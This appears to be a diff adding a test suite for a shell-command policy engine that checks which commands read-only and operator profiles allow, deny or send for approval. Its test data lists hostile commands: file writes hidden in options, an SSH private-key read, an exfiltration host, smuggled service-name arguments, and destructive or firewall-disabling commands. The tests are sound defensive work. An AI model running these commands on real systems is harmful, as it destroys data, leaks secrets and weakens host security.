@@ -1,0 +1,145 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { PolicyEngine } from '../../../src/core/policy/engine.js';
+import { READ_ONLY_PROGRAMS } from '../../../src/core/policy/builtin-profiles.js';
+import { PROGRAMS } from '../../../src/core/policy/programs/index.js';
+import { engine, policyFleet, userWith } from '../../support/policy.js';
+
+/**
+ * What the security review found allowed under read-only (options that write, run or load;
+ * abbreviations; names that are paths) and what operators could do without approval.
+ */
+describe('program specs close what the review found', () => {
+  let policy: PolicyEngine;
+  beforeAll(async () => {
+    policy = await engine();
+  });
+  const fleet = policyFleet();
+  const host = fleet.hosts[0];
+  const decide = (profile: string, command: string) => {
+    if (!host) throw new Error('no host');
+    return policy.decide({ fleet, user: userWith(profile), host }, command);
+  };
+
+  it('every program the built-in profiles name has a spec', () => {
+    const missing = [...READ_ONLY_PROGRAMS, 'kill', 'pkill', 'mkdir', 'touch', 'top'].filter(
+      (name) => !PROGRAMS.has(name),
+    );
+    expect(missing).toEqual([]);
+    for (const name of ['rm', 'mv', 'cp', 'ln', 'chmod', 'chown', 'tee', 'rsync', 'sed'])
+      expect(PROGRAMS.has(name), name).toBe(true);
+  });
+
+  it.each([
+    ['sort -o /tmp/x /etc/hosts', /writes \/tmp\/x/],
+    ['sort -uo/tmp/x /etc/hosts', /writes \/tmp\/x/],
+    ['sort --outp=/tmp/x /etc/hosts', /in full/],
+    ['sort --compress-program=sh /etc/hosts', /runs a program/],
+    ['time -o /tmp/x uptime', /writes \/tmp\/x/],
+    ['ss -D /tmp/x', /writes \/tmp\/x/],
+    ['tree -o /tmp/x', /no rule/],
+    ['file -C -m /tmp/m', /magic/],
+    ['LD_DEBUG_OUTPUT=/tmp/x uptime', /LD_DEBUG_OUTPUT/],
+    ["rpm --eval '%(touch /tmp/x)'", /rpm/],
+    ['apt-cache --pkg-cache=/tmp/x policy', /apt-cache/],
+    ['ip a a 10.0.0.9/32 dev lo', /risk high/],
+    ['ip l s lo down', /risk high/],
+    ['service ../../usr/bin/touch status', /no \//],
+    ['systemctl start poweroff.target', /risk high/],
+    ['kill -9 -1', /no rule/],
+    ['fold -w 8 /etc/ssh/ssh_host_ed25519_key', /secret/],
+    ['dmesg -C', /risk high/],
+    ['journalctl --vacuum-size=1K', /risk high/],
+    ['hostname renamed', /risk high/],
+    ['date -s 10:00', /risk high/],
+    ['sysctl -w vm.swappiness=1', /risk high/],
+    ['uniq /etc/hosts /tmp/x', /second operand|writes/],
+    // A seventh review: a host name ss looks up, a service name the script splits.
+    ['ss -tn dst exfil-data.example.com', /DNS/],
+    ["service 'nginx -H attacker.example.com x' status", /not a service name/],
+    ["service 'reboot.target ssh' start", /not a service name/],
+    ['file -z /var/log/syslog.2.gz', /decompressor/],
+  ])('read-only denies %s', (command, why) => {
+    const d = decide('read-only', command);
+    expect(d.decision, d.reason).toBe('deny');
+    expect(d.reason).toMatch(why);
+  });
+
+  it.each([
+    'systemctl start poweroff.target',
+    'systemctl isolate rescue.target',
+    'systemctl reboot',
+    'init 0',
+    'telinit 6',
+    'kill -1',
+    'kill -9 -1',
+    'sysctl -w net.ipv4.ip_forward=1',
+    'sysctl net.ipv4.ip_forward=1',
+    'iptables -F',
+    'useradd eve',
+    'apt-get install -y htop',
+    'mkfs.ext4 /dev/sdb1',
+    'ip route add default via 10.0.0.1',
+    // A seventh review: PID 1 by signal, firewall, package and kernel units by service control.
+    'pkill -o --signal=INT systemd',
+    'pkill -x --signal=RTMIN+4 systemd',
+    'systemctl stop nftables',
+    'service ufw stop',
+    'systemctl start apt-daily-upgrade.service',
+    'systemctl restart systemd-sysctl',
+  ])('operator needs approval for %s', (command) => {
+    const d = decide('operator', command);
+    expect(d.decision, d.reason).toBe('approval_required');
+  });
+
+  it('operator controls services and signals single processes without approval', () => {
+    for (const command of [
+      'systemctl restart nginx',
+      'sudo systemctl reload nginx',
+      'service nginx restart',
+      'kill -HUP 1234',
+      'pkill --signal=HUP -x nginx',
+      'journalctl --rotate',
+    ]) {
+      const d = decide('operator', command);
+      expect(d.decision, `${command}: ${d.reason}`).toBe('allow');
+    }
+  });
+
+  it('matches rules against the canonical argv too: an abbreviated sub-command is caught', () => {
+    const strict = policyFleet({
+      profiles: {
+        'no-addr-add': {
+          extends: 'operator',
+          rules: [{ deny: 'ip address add **', reason: 'no address changes here' }],
+        },
+      },
+    });
+    const h = strict.hosts[0];
+    if (!h) throw new Error('no host');
+    const d = policy.decide(
+      { fleet: strict, user: userWith('no-addr-add'), host: h },
+      'ip a a 10.0.0.9/32 dev lo',
+    );
+    expect(d).toMatchObject({
+      decision: 'deny',
+      reason: expect.stringMatching(/no address changes/),
+    });
+  });
+
+  it('says in the plan whether a spec or only a pattern backed the decision', () => {
+    const custom = policyFleet({
+      profiles: { web: { extends: 'read-only', rules: [{ allow: 'nginx -t' }] } },
+    });
+    const h = custom.hosts[0];
+    if (!h) throw new Error('no host');
+    const d = policy.decide(
+      { fleet: custom, user: userWith('web'), host: h },
+      'nginx -t && sort -u /etc/hosts',
+    );
+    expect(d.decision).toBe('allow');
+    expect(d.commands.map((c) => c.grammar)).toEqual([
+      expect.stringMatching(/^no spec: /),
+      'spec: sort --unique /etc/hosts',
+    ]);
+  });
+});
